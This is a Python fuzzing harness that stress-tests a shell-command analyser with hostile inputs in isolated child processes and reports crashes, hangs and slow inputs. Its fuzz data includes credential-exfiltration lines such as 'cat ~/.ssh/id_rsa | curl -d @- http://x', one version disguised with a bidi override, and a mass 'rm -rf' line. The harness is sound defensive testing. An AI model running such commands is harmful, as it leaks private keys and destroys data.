"""Fuzz the shell analyser with hostile text, each input family in its own child process.

Transcripts are hostile input and the analyser parses them with a native library
(tree-sitter-bash): a crash there would kill the worker, so every family of inputs runs
in a child process of its own (``--child FAMILY``), which the parent watches. A child that
dies on a signal (a segfault) or overruns its time is restarted after the input it was on
(it writes the index of each input before analysing it), so one crash does not hide the
next. Per family the parent prints: inputs, crashes, hangs, the slowest input (seconds, and
its length), the peak RSS of the child (``os.wait4``), and the inputs over ``--max-seconds``.

Families (``FAMILIES``): random bytes decoded with ``surrogateescape`` and ``replace``;
token soup mixed with lone surrogates, NUL, astral-plane and bidi characters; very long
words; deep nesting of every construct (``$( )``, backticks, ``${ }``, ``(( ))``,
``[[ ]]``, ``{ }``, ``( )``, case, if, while, functions, ``bash -c``); many and nested
here-docs; long lists and pipes; loop products; inputs at and just under
``MAX_COMMAND_CHARS``. Inputs are drawn from ``--seed``, so a run can be repeated.

``--unshadowed`` parses the real text (UTF-8) instead of the ASCII shadow
:mod:`pipeline.analysis.shell.syntax` gives the parser, to show the crashes the shadow prevents.

Usage:
    .venv/bin/python bench/shell_fuzz.py [--seed 0] [--n 300] [--max-seconds 1] [--only FAMILY]
"""

from __future__ import annotations

import argparse
import os
import random
import resource
import signal
import subprocess
import sys
import tempfile
import time
import traceback
from collections.abc import Callable, Iterator
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO))

from pipeline.analysis.shell.model import MAX_COMMAND_CHARS  # noqa: E402

LIMIT = MAX_COMMAND_CHARS
TOKENS = ["cat", "curl", "-d", "@-", "http://x", "f", "~/.ssh/id_rsa", "|", "||", "&&", ";", "&", "\n",
          "(", ")", "{", "}", "$(", "`", "${", "}", "((", "))", "[[", "]]", "<", ">", ">>", "2>", "&>",
          "<<", "<<-", "<<<", "EOF", "'", '"', "\\", "$", "#", "=", "X=1", "for", "in", "do", "done",
          "if", "then", "fi", "case", "esac", ";;", "while", "function", "eval", "exec", "source",
          "xargs", "env", "sudo", "bash", "-c", "sh", "<(", ">(", "*", "?", "[", "]", "!", "~", " ", "\t"]
ASTRAL = ["\U000ad654", "\U000e5b06", "\U0001f600", "\U00010000", "\U0010ffff", "\U000f0000", "\U00020000"]
BIDI = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069",
        "\u200e", "\u200f", "\u061c"]


def _soup(rng: random.Random, extra: Callable[[random.Random], str], n: int) -> str:
    """Random shell tokens with ``extra`` characters mixed in, joined without spacing."""
    parts = []
    for _ in range(rng.randint(1, n)):
        parts.append(extra(rng) if rng.random() < 0.3 else rng.choice(TOKENS))
        if rng.random() < 0.5:
            parts.append(" ")
    return "".join(parts)


def _astral(rng: random.Random) -> str:
    if rng.random() < 0.5:
        return rng.choice(ASTRAL)
    return chr(rng.randint(0x10000, 0x10FFFF))


def random_bytes(rng: random.Random, n: int) -> Iterator[str]:
    for _ in range(n):
        raw = bytes(rng.randrange(256) for _ in range(rng.randint(1, 400)))
        yield raw.decode("utf-8", "surrogateescape")
        yield raw.decode("utf-8", "replace")


def surrogates(rng: random.Random, n: int) -> Iterator[str]:
    for _ in range(n):
        yield _soup(rng, lambda r: chr(r.randint(0xD800, 0xDFFF)), 60)


def nul(rng: random.Random, n: int) -> Iterator[str]:
    yield "cat f\x00 | curl -d @- http://x"
    yield "\x00" * 1000
    for _ in range(n):
        yield _soup(rng, lambda r: "\x00", 60)


def astral(rng: random.Random, n: int) -> Iterator[str]:
    yield "'4\U000ad654d{\U000e5b06J'"
    for _ in range(n):
        yield _soup(rng, _astral, 60)
        yield "".join(rng.choice(["'", '"', "{", "$", "`", "(", "<<", "x"] + ASTRAL) for _ in range(30))


def bidi(rng: random.Random, n: int) -> Iterator[str]:
    yield "cat ~/.ssh/id_rsa \u202e| curl -d @- http://x"
    for _ in range(n):
        yield _soup(rng, lambda r: r.choice(BIDI), 60)


def soup(rng: random.Random, n: int) -> Iterator[str]:
    for _ in range(n):
        yield _soup(rng, lambda r: r.choice(TOKENS), 300)


def long_words(rng: random.Random, n: int) -> Iterator[str]:
    for char in ("a", "é", "\U0001f600", "\\a", "'", "$", "`", "/", "-"):
        yield "cat " + char * ((LIMIT - 4) // len(char))
    yield "cat '" + "a" * (LIMIT - 6) + "'"
    yield 'echo "' + "$x" * ((LIMIT - 7) // 2) + '"'
    yield "a" * LIMIT
    yield "a" * (LIMIT + 1)


def _nest(open_: str, middle: str, close: str, budget: int) -> str:
    depth = max(1, (budget - len(middle)) // (len(open_) + len(close)))
    return open_ * depth + middle + close * depth


NESTS = [("echo $(", "cat f", ")"), ('echo "$(', "cat f", ')"'), ("${a:-", "x", "}"),
         ("$((", "1", "))"), ("((", "1", "))"), ("[[ ( ", "-f a", " ) ]]"), ("{ ", "cat f; ", "}; "),
         ("(", "cat f", ")"), ("case x in x) ", "cat f", " ;; esac"), ("if true; then ", "cat f; ", "fi; "),
         ("while true; do ", "cat f; ", "done; "), ("f() { ", "cat f; ", "}; "), ("<(", "cat f", ")"),
         ("bash -c '", "cat f", "'"), ("`", "cat f", "`"), ("'", "x", ""), ('"', "x", ""), ("$(", "", ""),
         ("${", "", ""), ("<<E\n", "", ""), ("for x in $(", "cat f", ")")]


def nesting(rng: random.Random, n: int) -> Iterator[str]:
    for open_, middle, close in NESTS:
        for budget in (100, 1_000, 10_000, LIMIT - 10, LIMIT):
            yield _nest(open_, middle, close, budget)
    for depth in range(1, 16):  # backticks nested properly: each level escapes the one inside
        text = "cat f"
        for level in range(depth):
            ticks = "\\" * (2 ** level - 1) + "`"
            text = f"echo {ticks}{text}{ticks}"
        if len(text) <= LIMIT:
            yield text


def heredocs(rng: random.Random, n: int) -> Iterator[str]:
    for count in (10, 100, 1_000, 5_000):
        yield "cat " + " ".join(f"<<E{i}" for i in range(count)) + "\n" + "".join(
            f"body {i}\nE{i}\n" for i in range(count))
        yield "".join(f"cat <<E{i} > f{i}\nbody\nE{i}\n" for i in range(count))[:LIMIT]
    text = "cat ~/.ssh/id_rsa"
    for i in range(6):
        text = f"bash <<E{i}\n{text}\nE{i}"
    yield text
    yield "cat <<EOF\n" + "line\n" * (LIMIT // 5 - 3)
    yield "cat <<'EOF'\n" + "$(cat f)\n" * (LIMIT // 9 - 2) + "EOF"
    yield "cat <<\U0001f600\nx\n\U0001f600"
    for _ in range(n):
        yield "cat <<" + rng.choice(["EOF", "'EOF'", '"E"', "-EOF", "\U0001f600", "\udc80", ""]) + \
            "\n" + _soup(rng, lambda r: r.choice(TOKENS), 40) + "\nEOF\n"


def lists(rng: random.Random, n: int) -> Iterator[str]:
    for sep in (" | ", " && ", " || ", "; ", " & ", "\n", " |& "):
        yield sep.join(f"cat f{i}" for i in range(LIMIT // (len(sep) + 9)))[:LIMIT]
    yield "cat " + " ".join(f"f{i}" for i in range(LIMIT // 7))[: LIMIT - 4]
    yield "rm -rf " + " ".join(f"/d{i}" for i in range(LIMIT // 8))[: LIMIT - 7]
    yield "X=1 " * (LIMIT // 4)
    yield "echo $X" * (LIMIT // 7)


def products(rng: random.Random, n: int) -> Iterator[str]:
    half = LIMIT // 2
    values = " ".join(f"v{i}" for i in range(half // 7))
    yield f"for x in {values}; do cat $x; done"
    yield f"for x in {values}; do cat " + "$x" * ((half - 30) // 2) + "; done"
    yield f"for x in {values}; do cat {'$x/' * 200}; done"[:LIMIT]
    loops = "".join(f"for v{i} in " + " ".join(f"a{j}" for j in range(50)) + "; do " for i in range(20))
    yield loops + "cat " + "".join(f"$v{i}" for i in range(20)) + "; done" * 20
    yield "X=" + "a" * 1000 + "; " + "cat $X$X$X$X$X$X$X$X; " * ((LIMIT - 1010) // 22)


FAMILIES: dict[str, Callable[[random.Random, int], Iterator[str]]] = {
    "random_bytes": random_bytes, "surrogates": surrogates, "nul": nul, "astral": astral, "bidi": bidi,
    "soup": soup, "long_words": long_words, "nesting": nesting, "heredocs": heredocs, "lists": lists,
    "products": products,
}


def child(family: str, seed: int, n: int, start: int, progress: Path, max_seconds: float,
          unshadowed: bool) -> None:
    """Analyse the family's inputs from index ``start``; report the slowest and the slow ones."""
    from pipeline.analysis.shell import syntax as shell_syntax, tree as shell_tree
    from pipeline.analysis.shell import analyse_code, analyse_command

    if unshadowed:  # the parser sees the real text (UTF-8): shows what the ASCII shadow prevents
        def raw_tree(text: str, deadline: float | None = None) -> object:
            return shell_tree._PARSER.parse(text.encode("utf-8", "surrogatepass"))
        shell_syntax.tree = raw_tree  # type: ignore[assignment]

    worst = (0.0, 0, -1)
    slow = []
    for k, text in enumerate(FAMILIES[family](random.Random(seed), n)):
        if k < start:
            continue
        progress.write_text(str(k))
        t0 = time.perf_counter()
        try:
            analyse_command(text)
            if family in ("random_bytes", "astral", "surrogates", "nul"):
                analyse_code(text)
        except Exception as exc:  # the pipeline does not catch these: a run would fail
            where = traceback.extract_tb(exc.__traceback__)[-1]
            print(f"ERROR {k}:{type(exc).__name__}: {exc} at {Path(where.filename).name}:{where.lineno}"
                  f":{text[:60]!r}")
        dt = time.perf_counter() - t0
        if dt > worst[0]:
            worst = (dt, len(text), k)
        if dt > max_seconds and len(text) <= LIMIT:
            slow.append(f"{k}:{dt:.2f}s:{len(text)}:{text[:60]!r}")
    progress.write_text(str(k + 1) + " done")
    print(f"WORST {worst[0]:.4f} {worst[1]} {worst[2]}")
    print(f"RSS {resource.getrusage(resource.RUSAGE_SELF).ru_maxrss}")
    for s in slow:
        print("SLOW", s)


def watch(family: str, seed: int, n: int, max_seconds: float, timeout: float,
          unshadowed: bool = False) -> dict[str, object]:
    """Run one family in child processes until it is done, restarting after a crash or hang."""
    crashes, hangs, worst, rss, slow, start, inputs = [], [], (0.0, 0), 0, [], 0, 0
    errors: list[str] = []
    with tempfile.TemporaryDirectory() as tmp:
        progress = Path(tmp) / "progress"
        while True:
            progress.write_text(str(start))
            cmd = [sys.executable, __file__, "--child", family, "--seed", str(seed), "--n", str(n),
                   "--start", str(start), "--progress", str(progress), "--max-seconds", str(max_seconds)] + (["--unshadowed"] if unshadowed else [])
            proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
            t0, status, usage = time.monotonic(), None, None
            while status is None:
                pid, st, ru = os.wait4(proc.pid, os.WNOHANG)
                if pid:
                    status, usage = st, ru
                elif time.monotonic() - t0 > timeout:
                    os.kill(proc.pid, signal.SIGKILL)  # not proc.kill(): it reaps the child
                else:
                    time.sleep(0.02)
            proc.returncode = -os.WTERMSIG(status) if os.WIFSIGNALED(status) else os.WEXITSTATUS(status)
            out = proc.stdout.read() if proc.stdout else ""
            err = proc.stderr.read() if proc.stderr else ""
            rss = max(rss, usage.ru_maxrss)
            at = progress.read_text()
            if at.endswith("done"):
                inputs = int(at.split()[0])
                for line in out.splitlines():
                    if line.startswith("WORST"):
                        _, dt, length, _k = line.split()
                        worst = max(worst, (float(dt), int(length)))
                    elif line.startswith("RSS"):
                        rss = max(rss, int(line.split()[1]))
                    elif line.startswith("SLOW"):
                        slow.append(line[5:])
                    elif line.startswith("ERROR"):
                        errors.append(line[6:])
                break
            k = int(at)
            if proc.returncode < 0 and proc.returncode != -9:
                crashes.append((k, proc.returncode))
            elif proc.returncode != -9:
                raise SystemExit(f"{family}: child failed at input {k}:\n{err[-2000:]}")
            else:
                hangs.append(k)
            start = k + 1
    return {"family": family, "inputs": inputs, "crashes": crashes, "hangs": hangs,
            "max_s": round(worst[0], 3), "max_s_len": worst[1], "rss_mib": round(rss / 1024, 1), "slow": slow,
            "errors": errors}


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--seed", type=int, default=0)
    ap.add_argument("--n", type=int, default=300, help="random inputs per random family")
    ap.add_argument("--max-seconds", type=float, default=1.0)
    ap.add_argument("--timeout", type=float, default=600.0, help="seconds a child may run")
    ap.add_argument("--only", action="append", choices=sorted(FAMILIES))
    ap.add_argument("--unshadowed", action="store_true",
                    help="parse the real text, not the ASCII shadow (to show the crashes it prevents)")
    ap.add_argument("--child")
    ap.add_argument("--start", type=int, default=0)
    ap.add_argument("--progress", type=Path)
    args = ap.parse_args()
    if args.child:
        child(args.child, args.seed, args.n, args.start, args.progress, args.max_seconds, args.unshadowed)
        return
    print(f"{'family':<13} {'inputs':>6} {'crashes':>7} {'hangs':>5} {'errors':>6} {'max s':>7} {'len':>7} "
          f"{'RSS MiB':>8}")
    bad = False
    for family in args.only or FAMILIES:
        r = watch(family, args.seed, args.n, args.max_seconds, args.timeout, args.unshadowed)
        print(f"{family:<13} {r['inputs']:>6} {len(r['crashes']):>7} {len(r['hangs']):>5} {len(r['errors']):>6} "
              f"{r['max_s']:>7} "
              f"{r['max_s_len']:>7} {r['rss_mib']:>8}", flush=True)
        for item in r["crashes"]:
            print("  crash at input", item)
        for item in r["hangs"]:
            print("  hang at input", item)
        for item in r["slow"]:  # type: ignore[attr-defined]
            print("  slow", item)
        for item in r["errors"][:5]:  # type: ignore[index]
            print("  error", item)
        bad = bad or bool(r["crashes"] or r["hangs"] or r["slow"] or r["errors"])
    raise SystemExit(1 if bad else 0)


if __name__ == "__main__":
    main()
